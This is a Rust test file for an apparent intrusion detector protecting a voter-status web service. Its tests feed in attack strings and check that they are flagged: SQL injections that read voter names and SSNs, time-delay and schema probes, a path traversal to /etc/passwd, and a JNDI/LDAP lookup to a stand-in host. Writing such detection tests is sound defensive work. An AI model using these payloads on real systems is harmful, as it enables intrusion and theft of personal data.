//! The specifications of the classes that one request shows: `tests/specs/CLASS.md`, a block of what is found and one of what is
//! left alone. A line is a target; `agent:`, `referer:`, `cookie:` and `header NAME:` say that it is one of those.

use std::path::Path;

use pollwatch_intrusion::payload::{Inspector, Scratch, detector_cards};
use pollwatch_intrusion::read::HeaderList;
use pollwatch_intrusion::{Class, Hits, RequestFields, Weight};

/// The lines of the fenced block with this name.
fn block<'a>(text: &'a str, name: &str) -> Vec<&'a str> {
    let fence = format!("```{name}\n");
    let start = text
        .find(&fence)
        .map(|at| at + fence.len())
        .expect("the block is there");
    let end = text[start..].find("\n```").expect("the block ends") + start;
    text[start..end].lines().collect()
}

fn inspect(inspector: &Inspector, line: &str) -> Hits {
    let mut hits = Hits::default();
    let mut fields = RequestFields::default();
    let mut list = HeaderList::default();
    if let Some(agent) = line.strip_prefix("agent: ") {
        fields.agent = agent.as_bytes();
    } else if let Some(referer) = line.strip_prefix("referer: ") {
        fields.referer = referer.as_bytes();
    } else if let Some(cookie) = line.strip_prefix("cookie: ") {
        fields.cookie = cookie.as_bytes();
    } else if let Some((name, value)) = line
        .strip_prefix("header ")
        .and_then(|rest| rest.split_once(": "))
    {
        list = list.with(name.as_bytes(), value.as_bytes());
    } else {
        fields.target = line.as_bytes();
    }
    fields.headers = list.headers();
    inspector.inspect(&fields, &mut Scratch::default(), &mut hits);
    hits
}

#[test]
fn every_class_is_as_its_specification_says() {
    let inspector = Inspector::new();
    let mut faults = Vec::new();
    for card in detector_cards() {
        let class: Class = card.name.parse().expect("a detector's page has its class's name");
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("tests/specs/{}.md", card.name));
        let text =
            std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
        for line in block(&text, "found") {
            let hits = inspect(&inspector, line);
            if !hits
                .0
                .iter()
                .any(|hit| hit.class == class && hit.weight == Weight::Strong)
            {
                faults.push(format!(
                    "{class}: not found: {line} {:?}",
                    hits.0.iter().map(|hit| (hit.class, hit.rule)).collect::<Vec<_>>()
                ));
            }
        }
        for line in block(&text, "quiet") {
            for hit in &inspect(&inspector, line).0 {
                faults.push(format!("{class}: spoken of as {}: {line}", hit.rule));
            }
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn a_line_that_no_reader_understands_is_searched() {
    let inspector = Inspector::new();
    let (mut scratch, mut hits) = (Scratch::default(), Hits::default());
    for line in [
        "203.0.113.7 - - [oops] \"GET /voter/status?id=1' UNION SELECT name,ssn FROM voters-- HTTP/1.1\" 200",
        "GET /docs/../../../../etc/passwd",
        "broken ${jndi:ldap://203.0.113.7/a} line",
        "\\x16\\x03 sqlmap/1.7.2",
    ] {
        inspector.inspect_raw(line.as_bytes(), &mut scratch, &mut hits);
        assert!(hits.0.iter().any(|hit| hit.weight == Weight::Strong), "{line}");
    }
    inspector.inspect_raw(
        b"203.0.113.7 - - [oops] \"GET /union-county/polling-places HTTP/1.1\" 200 (cut",
        &mut scratch,
        &mut hits,
    );
    assert!(hits.0.is_empty(), "{hits:?}");
}

#[test]
fn bytes_that_are_no_text_say_nothing() {
    let inspector = Inspector::new();
    let (mut scratch, mut hits) = (Scratch::default(), Hits::default());
    let payload = b"GET /?x=system('id'); UNION SELECT 1";
    let mut noise = payload.to_vec();
    // Multiples of an odd number: every byte there is.
    noise.extend((0..400u32).map(|n| (n * 97 % 256) as u8));
    inspector.inspect_raw(&noise, &mut scratch, &mut hits);
    assert_eq!(hits, Hits::default());
    // Text in any script, and a few bytes of something else, are looked at.
    for line in [
        [
            payload.as_slice(),
            "¿Dónde voto? 在哪里投票 ".repeat(9).as_bytes(),
        ]
        .concat(),
        [payload.as_slice(), b"\x16\x03\x01"].concat(),
    ] {
        inspector.inspect_raw(&line, &mut scratch, &mut hits);
        assert!(!hits.0.is_empty());
    }
}

/// What can be read off an injection beyond its class.
#[test]
fn facts_are_read_off_injections() {
    let inspector = Inspector::new();
    let facts = |value: &str| {
        let hits = inspect(
            &inspector,
            &format!(
                "/voter/status?id={}",
                value.replace(' ', "%20").replace('#', "%23")
            ),
        );
        hits.0
            .iter()
            .find(|hit| hit.class == Class::Sqli)
            .expect(value)
            .facts
    };
    assert_eq!(facts("1 AND 4821=4821").truth, Some(true));
    assert_eq!(facts("1 AND 4821=4822").truth, Some(false));
    assert_eq!(facts("1' AND 'a'='b").truth, Some(false));
    assert_eq!(facts("1 AND NOT 5>9").truth, Some(true));
    assert_eq!(facts("1 AND ASCII(SUBSTRING((SELECT 1),1,1))>64").truth, None);
    assert_eq!(facts("1 AND SLEEP(5)").sleep_seconds, Some(5));
    assert_eq!(facts("1';WAITFOR DELAY '0:1:5'--").sleep_seconds, Some(65));
    let union = facts("-1 UNION ALL SELECT CONCAT(0x71,last_name,ssn4),NULL FROM voters LIMIT 312,1-- -");
    assert!(union.reads_data && !union.reads_schema);
    assert_eq!(union.row, Some(312));
    assert!(facts("-1 UNION SELECT table_name FROM information_schema.tables").reads_schema);
}
